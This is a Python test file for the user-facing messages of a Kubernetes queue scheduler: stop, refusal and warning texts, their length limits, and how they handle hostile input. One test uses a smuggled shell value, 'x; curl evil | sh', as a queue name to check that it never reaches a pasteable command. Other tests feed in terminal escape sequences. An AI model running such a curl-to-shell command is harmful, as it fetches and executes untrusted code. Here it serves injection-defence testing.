"""What users read: each text names the queue, the cause and the way out, always in the same bytes."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import msgspec
import pytest

from queues.causes import Cause, CauseKind, NoRoom, StartReason
from queues.messages import (
    no_room_text,
    pod_text,
    quoted_lack,
    quoted_reason,
    refusal_text,
    stop_text,
    truncate_warning,
    waiting_warning,
    way_out,
)
from queues.queue import Queue
from queues.quota.gang_placement import TURN_SECONDS
from queues.quota.gang_turns import CLUSTER
from queues.quota.gangs import NotAsked, NotAskedKind
from queues.quota.lack import Lack, LackKind
from queues.states import State, StopPolicy
from queues.text import REASON_LIMIT
from queues.tree import ChainBreak
from queues.verdict import Verdict
from tests.support.cases import each_case
from tests.support.rules.cases import (
    CLOSED,
    DRAIN,
    HOLD,
    HOSTILE,
    NONE,
    SUSPENDED,
    asked,
    line,
    plain,
    queue,
    tree,
)

#: cause: the words that say it, the command that undoes it.
STOPS = {
    "suspended": (
        Cause(kind=CauseKind.SUSPENDED, queue="research", by="research"),
        ["research", "Suspended"],
        "kubectl queue resume research",
    ),
    "suspended above": (
        Cause(kind=CauseKind.SUSPENDED, queue="research", by="lab"),
        ["research", "Suspended", 'ancestor "lab"'],
        "kubectl queue resume lab",
    ),
    "held": (
        Cause(kind=CauseKind.STOPPED, queue="research", by="research", policy=HOLD),
        ["research", "stopPolicy Hold"],
        "kubectl queue resume research",
    ),
    "drained above": (
        Cause(kind=CauseKind.STOPPED, queue="research", by="lab", policy=DRAIN),
        ["research", "stopPolicy HoldAndDrain", 'ancestor "lab"'],
        "kubectl queue resume lab",
    ),
    "closed": (
        Cause(kind=CauseKind.CLOSED, queue="research", by="research"),
        ["research", "Closed"],
        "kubectl queue open research",
    ),
    "closed above": (
        Cause(kind=CauseKind.CLOSED, queue="research", by="lab"),
        ["research", "Closed", 'ancestor "lab"'],
        "kubectl queue open lab",
    ),
    "being deleted": (
        Cause(kind=CauseKind.TERMINATING, queue="research", by="research"),
        ["research", "is being deleted"],
        "kubectl queue create research",
    ),
    "being deleted above": (
        Cause(kind=CauseKind.TERMINATING, queue="research", by="lab"),
        ["research", "is being deleted", 'ancestor "lab"'],
        "kubectl queue create lab",
    ),
    "no parent": (
        Cause(kind=CauseKind.BROKEN, queue="research", by="lab", broken=ChainBreak("lab", "ghost")),
        ["research", "Unknown", 'parent "ghost" of queue "lab" does not exist'],
        "kubectl edit queue lab",
    ),
    "a cycle": (
        Cause(kind=CauseKind.BROKEN, queue="research", by="b", broken=ChainBreak("b", "a", ("a", "b"))),
        ["research", "Unknown", "cycle", "a > b > a"],
        "kubectl edit queue b",
    ),
    "no queue": (
        Cause(kind=CauseKind.NOT_FOUND, queue="research", by="research"),
        ["research", "does not exist"],
        "kubectl queue create research",
    ),
    "no PodGroup": (
        Cause(kind=CauseKind.NO_PODGROUP, queue="", by="train"),
        ['PodGroup "train"', "does not exist"],
        "kubectl create -f",
    ),
}
#: The way out for those whose pods wait, who may not change queues.
WHO_CAN_ACT = {
    "suspended": "an admin of queues can resume it",
    "suspended above": 'an admin of queues can resume "lab"',
    "held": "an admin of queues can resume it",
    "drained above": 'an admin of queues can resume "lab"',
    "closed": "an admin of queues can reopen it",
    "closed above": 'an admin of queues can reopen "lab"',
    "being deleted": "use another queue",
    "being deleted above": "use another queue",
    "no parent": 'an admin of queues can mend "lab"',
    "a cycle": 'an admin of queues can mend "b"',
    "no queue": "name another queue, or have an admin of queues create it",
    "no PodGroup": "create it with: kubectl create -f PODGROUP",
}
ANY_STOP = pytest.mark.parametrize(("cause", "words", "command"), STOPS.values(), ids=STOPS)
#: The ones that a user's reason belongs to.
REASONED = [
    name for name, (cause, *_) in STOPS.items() if cause.kind in (CauseKind.SUSPENDED, CauseKind.STOPPED)
]


def reasoned(name: str, reason: str) -> Cause:
    cause = STOPS[name][0]
    return Cause(kind=cause.kind, queue=cause.queue, by=cause.by, policy=cause.policy, reason=reason)


# Stops


@ANY_STOP
def test_a_stop_names_the_queue_and_the_cause(cause: Cause, words: list[str], command: str) -> None:
    """Whoever reads it knows which queue stops the pod, and why."""
    assert [word for word in words if word not in stop_text(cause)] == []


@ANY_STOP
def test_a_stop_ends_with_the_way_out(cause: Cause, words: list[str], command: str) -> None:
    """The command that undoes the stop comes last, for the queue that has to be changed."""
    assert stop_text(cause).rpartition("with: ")[2].startswith(command)


@each_case("name", STOPS)
def test_pods_and_warnings_name_the_queue_the_cause_and_who_can_act(name: str) -> None:
    """In place of a command that the reader may not run."""
    cause, words, _ = STOPS[name]
    for text in (pod_text(cause), waiting_warning(cause)):
        assert [word for word in words if word not in text] == []
        assert text.endswith(WHO_CAN_ACT[name])


@each_case(
    ("until", "said"),
    [
        (datetime(2030, 1, 2, 4, tzinfo=UTC), "until 2030-01-02 04:00 UTC"),
        (datetime(2030, 1, 2, 4, 0, 1, tzinfo=UTC), "until 2030-01-02 04:00:01 UTC"),
        (datetime(2030, 1, 2, 4, 59, 59, 999999, tzinfo=UTC), "until 2030-01-02 04:59:59 UTC"),
        (datetime(2030, 1, 2, 1, tzinfo=timezone(timedelta(hours=-3))), "until 2030-01-02 04:00 UTC"),
    ],
)
@each_case("name", REASONED)
def test_a_stop_that_ends_by_itself_says_when_in_utc(name: str, until: datetime, said: str) -> None:
    """The same time as `resumeAt` has, so that nobody reads two times of one end."""
    cause = msgspec.structs.replace(STOPS[name][0], until=until)
    for text in (stop_text(cause), pod_text(cause), waiting_warning(cause)):
        assert said in text


@pytest.mark.parametrize("until", [None, datetime.max.replace(tzinfo=UTC)])
def test_an_end_that_never_comes_is_not_said(until: datetime | None) -> None:
    cause = msgspec.structs.replace(STOPS["suspended"][0], until=until)
    assert "until" not in stop_text(cause) + pod_text(cause) + waiting_warning(cause)


@each_case("policy", [HOLD, DRAIN, NONE])
@each_case("above", [False, True])
def test_the_end_is_that_of_the_queue_that_is_named_and_the_text_stays_while_the_stop_does(
    policy: StopPolicy, above: bool
) -> None:
    """Whenever it is worked out: kube-scheduler would try anew for each other text."""
    stop: dict[str, Any] = {"stop_policy": policy} if policy is not NONE else {"desired": SUSPENDED}
    stopped = queue("lab", **stop, resume_at=datetime(2030, 1, 2, 4, tzinfo=UTC))
    of = tree(stopped, queue("research", "lab"))
    found = asked(of, "research" if above else "lab").stop
    assert found is not None
    assert found.until == stopped.resume_at
    last = asked(of, found.queue, now=datetime(2030, 1, 2, 3, 59, 59, tzinfo=UTC)).stop
    assert last is not None
    assert (pod_text(last), waiting_warning(last)) == (pod_text(found), waiting_warning(found))


@pytest.mark.parametrize("name", ["suspended", "held", "closed"])
def test_a_queue_that_stops_itself_is_not_called_its_ancestor(name: str) -> None:
    """Only a queue further up is an ancestor."""
    cause = STOPS[name][0]
    assert "ancestor" not in stop_text(cause) + waiting_warning(cause)


@pytest.mark.parametrize(
    ("parts", "text"),
    [
        (
            (queue("lab", desired=SUSPENDED, reason="new disks"), queue("research")),
            'queue "research" is Suspended by its ancestor "lab" (new disks); '
            "resume it with: kubectl queue resume lab",
        ),
        (
            (queue("lab"), queue("research", stop_policy=DRAIN)),
            'queue "research" is stopped by stopPolicy HoldAndDrain; '
            "resume it with: kubectl queue resume research",
        ),
    ],
)
def test_a_stop_reads_as_a_sentence(parts: tuple[Queue, ...], text: str) -> None:
    """From a verdict to the words: the whole sentence, once for each kind of stop."""
    stop = asked(line(*parts), "research").stop
    assert stop
    assert stop_text(stop) == text


@ANY_STOP
def test_a_text_is_constant(cause: Cause, words: list[str], command: str) -> None:
    """The same cause, worked out anew, gives the same bytes: else kube-scheduler would try for ever."""
    again = Cause(**{name: getattr(cause, name) for name in cause.__struct_fields__})
    texts = [(stop_text(each), pod_text(each), waiting_warning(each)) for each in (again, cause)]
    assert texts[0] == texts[1]


# Refusals


def test_a_refusal_reads_as_the_design_has_it() -> None:
    """The denial of the design, word for word."""
    assert (
        refused(asked(tree(queue("research", desired=CLOSED)), "research"))
        == 'queue "research" is Closed and takes no new pods; reopen it with: kubectl queue open research'
    )


def refused(found: Verdict, kind: str = "pods") -> str:
    assert found.refusal
    return refusal_text(found.refusal, state=found.state, kind=kind)


@each_case("live", [False, True])
@each_case("own", ["Open", "Suspended", "Closed"])
@each_case("above", ["Open", "Suspended", "Closed"])
def test_a_refusal_names_the_state_the_cause_and_the_way_out(above: str, own: str, live: bool) -> None:
    """Whatever a queue shows, a refusal says it, who is closed, and how to open that one."""
    pair = line(queue("lab", desired=above), queue("research", desired=own))
    found = asked(pair, "research", live=live)
    if found.refusal:
        text, by = refused(found), found.refusal.by
        assert f'"research" is {found.state}' in text
        assert "takes no new pods" in text
        assert text.endswith(f"kubectl queue open {by}")
        assert ('ancestor "lab"' in text) is (by == "lab")


def test_a_refusal_says_closed_where_the_queue_shows_suspended() -> None:
    """A closed queue under a suspended one shows Suspended while members are live: no reason to refuse.

    "is Suspended and takes no new pods" would be false of every other suspended queue.
    """
    pair = line(queue("lab", desired=SUSPENDED), queue("research", desired=CLOSED))
    assert "close" in refused(asked(pair, "research", live=True)).lower()


@pytest.mark.parametrize("own", ["Open", "Suspended"])
def test_a_refusal_does_not_lay_an_ancestors_close_on_the_queue(own: str) -> None:
    """Where an ancestor is to be closed the queue itself is not said to be: the close is told once."""
    pair = line(queue("top", desired=SUSPENDED), queue("lab", desired=CLOSED), queue("research", desired=own))
    text = refused(asked(pair, "research", live=True))
    assert text.startswith('queue "research" is Suspended, its ancestor "lab" is')
    assert text.lower().count("closed") == 1


def test_a_refusal_names_the_kind_of_what_is_refused() -> None:
    """A PodGroup is not told that there is no room for pods."""
    text = refused(asked(tree(queue("q", desired=CLOSED)), "q"), "PodGroups")
    assert "takes no new PodGroups" in text


def test_a_refusal_on_a_broken_chain_says_what_to_mend() -> None:
    """Unknown is explained by the missing parent, and the way out is to edit who asks for it."""
    text = refused(asked(tree(queue("research", "lab"), queue("lab", "ghost")), "research"))
    assert '"research" is Unknown' in text
    assert 'parent "ghost" of queue "lab" does not exist' in text
    assert "takes no new pods" in text
    assert text.endswith("kubectl edit queue lab")


def test_a_refusal_gives_the_reason_of_the_close() -> None:
    """What the operator wrote is passed on."""
    assert "(moving out)" in refused(asked(tree(queue("q", desired=CLOSED, reason="moving out")), "q"))


# What users wrote


@each_case("reason", HOSTILE.values(), ids=HOSTILE)
@each_case("name", REASONED)
def test_a_hostile_reason_stays_on_one_printable_line(name: str, reason: str) -> None:
    """No reason breaks a log line, colours a terminal, turns the direction of writing or fills a screen."""
    text = stop_text(reasoned(name, reason))
    assert plain(text)
    assert len(text) <= len(stop_text(reasoned(name, ""))) + len(" ()") + REASON_LIMIT


@each_case("reason", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_reason_does_not_hide_the_way_out(reason: str) -> None:
    """Whatever an operator wrote, the queue is first and the command is last."""
    text = stop_text(reasoned("suspended above", reason))
    assert text.startswith('queue "research" is Suspended')
    assert text.endswith("resume it with: kubectl queue resume lab")


@each_case("reason", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_reason_stays_on_one_line_of_a_refusal(reason: str) -> None:
    """Denials are as plain as stops."""
    text = refused(asked(tree(queue("q", desired=CLOSED, reason=reason)), "q"))
    assert plain(text)
    assert len(text) < 300


@pytest.mark.parametrize("name", REASONED)
def test_a_reason_is_shown_with_the_stop(name: str) -> None:
    """What the operator wrote stands in the text."""
    assert "(new disks until Monday)" in stop_text(reasoned(name, "new disks until Monday"))


@each_case("nothing", ["", " ", "\n\t", "\x00", "\u200b"])
def test_a_reason_of_nothing_leaves_no_brackets(nothing: str) -> None:
    """A reason without a visible character is none."""
    assert stop_text(reasoned("suspended", nothing)) == stop_text(STOPS["suspended"][0])


UNTIL = datetime(2030, 1, 2, 4, tzinfo=UTC)
#: How the warnings of a child begin.
ABOVE = 'queue "vision-a" is Suspended by its ancestor "vision" until 2030-01-02 04:00 UTC'
LONG_REASON = "the storage of the whole building is replaced by another that is even larger than this text"


@pytest.mark.parametrize(
    ("reason", "until", "warning"),
    [
        (
            "new disks",
            UNTIL,
            'queue "research" is Suspended until 2030-01-02 04:00 UTC (new disks): this waits; '
            "an admin of queues can resume it",
        ),
        (
            "new disks and switches",
            UNTIL,
            'queue "research" is Suspended until 2030-01-02 04:00 UTC (new disks and switches): this waits',
        ),
        (
            LONG_REASON,
            UNTIL,
            'queue "research" is Suspended until 2030-01-02 04:00 UTC '
            "(the storage of the whole building is replaced b…): this waits",
        ),
        (
            LONG_REASON,
            None,
            'queue "research" is Suspended '
            "(the storage of the whole building is replaced by another that is even larg…): this waits",
        ),
    ],
)
def test_a_warning_gives_end_and_reason_before_it_says_who_can_act(
    reason: str, until: datetime | None, warning: str
) -> None:
    """Who waits wants to know until when and why; who can act is on the pod as well."""
    cause = msgspec.structs.replace(STOPS["suspended"][0], reason=reason, until=until)
    assert waiting_warning(cause) == warning


@each_case("reason", HOSTILE.values(), ids=HOSTILE)
@each_case("name", REASONED)
def test_a_warning_with_a_hostile_reason_is_a_line_that_clients_do_not_cut(name: str, reason: str) -> None:
    for until in (UNTIL, None):
        warning = waiting_warning(msgspec.structs.replace(reasoned(name, reason), until=until))
        assert plain(warning)
        assert len(warning) < 120


@each_case(
    ("reason", "warning"),
    [
        ("planning", f"{ABOVE} (planning): new pods wait"),
        ("planning of the quarter", f"{ABOVE} (planning of the quarter)"),
        (LONG_REASON, f"{ABOVE} (the storage of the …): new pods wait"),
        ("", f'{ABOVE}: Lena (#vi) can resume "vision"'),
    ],
)
def test_a_warning_of_a_child_has_the_reason_before_the_contact(reason: str, warning: str) -> None:
    cause = Cause(
        kind=CauseKind.SUSPENDED,
        queue="vision-a",
        by="vision",
        reason=reason,
        until=UNTIL,
        contact="Lena (#vi)",
    )
    assert waiting_warning(cause, what="new pods wait") == warning


HOSTILE_PARENTS = [f"gh\x1b[31most\n{'x' * n}" for n in (0, 1_000_000)]


@pytest.mark.parametrize("parent", HOSTILE_PARENTS, ids=["escapes", "huge"])
def test_a_hostile_parent_stays_on_one_printable_line(parent: str) -> None:
    """`spec.parent` is what a user wrote, too: a missing one is shown as carefully as a reason."""
    stop = asked(tree(queue("q", parent)), "q").stop
    assert stop
    assert plain(stop_text(stop))
    assert len(stop_text(stop)) < 1024


@pytest.mark.parametrize("name", HOSTILE_PARENTS, ids=["escapes", "huge"])
@pytest.mark.parametrize("why", [CauseKind.NOT_FOUND, CauseKind.NO_PODGROUP])
def test_a_hostile_name_stays_on_one_printable_line(why: CauseKind, name: str) -> None:
    """An annotation can ask for any queue or PodGroup: its name is shown as carefully as a reason."""
    text = stop_text(Cause(kind=why, queue=name, by=name))
    assert plain(text)
    assert len(text) < 1024


def test_no_command_is_made_of_a_name_that_no_queue_can_have() -> None:
    """Commands are there to be pasted: what an annotation asks for does not get into a shell that way."""
    text = stop_text(Cause(kind=CauseKind.NOT_FOUND, queue="x; curl evil | sh", by="x; curl evil | sh"))
    assert "create x; curl" not in text


def test_a_great_cycle_is_not_shown_in_full() -> None:
    """A cycle of a thousand queues still makes a text that fits an event (1,024 bytes)."""
    knot = tree(*(queue(f"q{i}", f"q{(i + 1) % 1000}") for i in range(1000)))
    stop = asked(knot, "q0").stop
    assert stop
    assert len(stop_text(stop)) <= 1024


# Warnings


@each_case("until", [None, UNTIL])
@each_case("length", [1, 8, 20, 63, 253])
@each_case("name", [name for name, (cause, *_) in STOPS.items() if cause.kind is not CauseKind.BROKEN])
def test_a_warning_fits_what_clients_show(name: str, length: int, until: datetime | None) -> None:
    """Clients cut a warning of 120 characters, so none is that long, whatever the names."""
    cause = STOPS[name][0]
    own = cause.by == cause.queue
    by = "q" * length if own else "p" * length
    if cause.kind not in {CauseKind.SUSPENDED, CauseKind.STOPPED}:
        until = None
    long = Cause(
        kind=cause.kind, queue="q" * length, by=by, policy=cause.policy, until=until, reason="x" * 30
    )
    warning = waiting_warning(long)
    assert len(warning) < 120
    assert plain(warning)
    assert (until is None) or "2030-01-02 04:00 UTC" in warning


@each_case("length", [8, 16, 24])
@each_case("name", ["suspended", "suspended above", "held", "drained above"])
def test_a_warning_keeps_who_can_act_for_names_people_use(name: str, length: int) -> None:
    """Where there is no reason, what is cut is not the name of the queue that has to be resumed."""
    cause = STOPS[name][0]
    names = {"research": "q" * length, "lab": "p" * length}
    long = Cause(kind=cause.kind, queue=names[cause.queue], by=names[cause.by], policy=cause.policy)
    which = "it" if long.by == long.queue else f'"{long.by}"'
    assert waiting_warning(long).endswith(f"an admin of queues can resume {which}")


@each_case("length", [1, 50, 65, 100, 253])
def test_a_warning_for_a_missing_podgroup_names_it(length: int) -> None:
    """Volcano names a PodGroup by its Job and a UID: however long, its beginning is shown."""
    warning = waiting_warning(Cause(kind=CauseKind.NO_PODGROUP, queue="", by="train-" + "p" * length))
    assert 'PodGroup "train-' in warning
    assert "kubectl create -f" in warning
    assert len(warning) < 120


@each_case(("length", "kept"), [(0, 0), (1, 1), (118, 118), (119, 119), (120, 118), (5000, 118)])
def test_a_warning_is_cut_with_a_mark(length: int, kept: int) -> None:
    """Up to 119 characters stay as they are; of more there are 118 and an ellipsis."""
    assert truncate_warning("w" * length) == "w" * kept + ("" if length == kept else "\u2026")


@pytest.mark.parametrize("state", [State.CLOSING, State.CLOSED, State.SUSPENDED])
def test_a_refusal_is_constant(state: State) -> None:
    """The same cause and state give the same bytes."""
    cause, again = (Cause(kind=CauseKind.CLOSED, queue="q", by="p", reason="r") for _ in "ab")
    assert refusal_text(cause, state=state) == refusal_text(again, state=state)


def test_a_pod_says_that_it_waits_for_its_gang_in_words_that_do_not_change_with_each_pod() -> None:
    for have in range(3):
        why = NotAsked(kind=NotAskedKind.TOO_FEW, have=have, least=4).reason
        text = no_room_text(NoRoom(queue="research", kind=LackKind.GANG, why=why))
        assert text == (
            'queue "research" does not release this pod yet: fewer than 4 pods of its PodGroup exist; '
            "its pods start together"
        )
    assert quoted_reason(f"0/3 nodes: {text}", queue="research", podgroup="") is StartReason.NO_ROOM
    assert quoted_lack(text, queue="research") is LackKind.GANG


@pytest.mark.parametrize(
    ("scope", "shown"),
    [("research", "its queue"), ("lab", 'its ancestor "lab"'), (CLUSTER, "the cluster with pods on nodes")],
)
def test_a_pod_says_among_which_gangs_it_waits_for_its_turn(scope: str, shown: str) -> None:
    text = no_room_text(NoRoom(queue="research", by=scope, kind=LackKind.TURN, together=2))
    assert text == (
        'queue "research" has no room for this pod now: 2 pods of its PodGroup start together, and its gang '
        f"got too few nodes before: of such gangs in {shown} one is tried at a time; it goes in its turn, "
        f"and each lasts {TURN_SECONDS / 60:.0f} minutes at most"
    )
    assert quoted_lack(text, queue="research") is LackKind.TURN


def test_a_gang_that_never_fits_says_what_would_help() -> None:
    never = NotAsked(kind=NotAskedKind.TOO_LARGE, least=4, lack=Lack("lab", "cpu", 1, never=True))
    cause = NoRoom(queue="research", by="lab", never=True, kind=LackKind.GANG, why=never.reason)
    assert no_room_text(cause) == (
        'queue "research" never has room for this pod: with its PodGroup: together they need more cpu than '
        "lab may use; request less, or have an admin raise it"
    )
    assert way_out(cause) == "request less, or have an admin raise it"
    assert quoted_lack(no_room_text(cause), queue="research") is None


def test_a_gang_without_room_says_how_many_start_together() -> None:
    text = no_room_text(NoRoom(queue="research", by="lab", together=4))
    assert text == (
        'queue "research" has no room for this pod now: 4 pods of its PodGroup start together, and '
        'the capability of its ancestor "lab" has no room for all of them; '
        "it goes when others end, or an admin of queues raises it"
    )
